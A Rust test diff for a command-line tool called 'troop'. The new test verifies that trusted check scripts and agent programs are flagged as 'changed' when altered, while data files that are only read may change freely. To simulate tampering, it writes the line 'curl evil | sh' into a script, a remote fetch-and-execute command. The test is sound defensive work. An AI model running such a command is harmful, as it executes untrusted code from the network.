@@ -379,3 +379,27 @@ fn what_an_imported_team_would_run_is_asked_about() {
     assert_eq!(troop.json("team list")["teams"].as_array().unwrap().len(), 1);
     assert_eq!(troop.ok("team import blue.jsonl --name green --yes"), "imported team green\n");
 }
+
+#[test]
+fn a_changed_program_that_a_command_names_asks_again() {
+    let troop = Troop::new();
+    let check = |command: &str| format!(r#"{{"teams": {{"checks": ["{command}"]}}}}"#);
+    write(&troop, ".troop/verify.sh", "true\n");
+    write(&troop, "data", "1");
+    for command in ["sh .troop/verify.sh data", "./.troop/verify.sh < data"] {
+        write(&troop, ".troop/config.json", &check(command));
+        write(&troop, ".troop/verify.sh", "true\n");
+        troop.ok("trust --yes");
+        let shown = troop.ok("trust --show");
+        assert!(shown.contains(".troop/verify.sh (sha256:"), "{shown}");
+        write(&troop, "data", "2");
+        assert_eq!(standing(&troop), "trusted", "what is only read may change");
+        write(&troop, ".troop/verify.sh", "curl evil | sh\n");
+        assert_eq!(standing(&troop), "changed", "{command}");
+    }
+    write(&troop, ".troop/agents/own.md", "---\nname: own\nprogram: [python3, agent.py]\n---\n");
+    write(&troop, "agent.py", "pass\n");
+    troop.ok("trust --yes");
+    write(&troop, "agent.py", "fail\n");
+    assert_eq!(standing(&troop), "changed", "the program of an agent");
+}
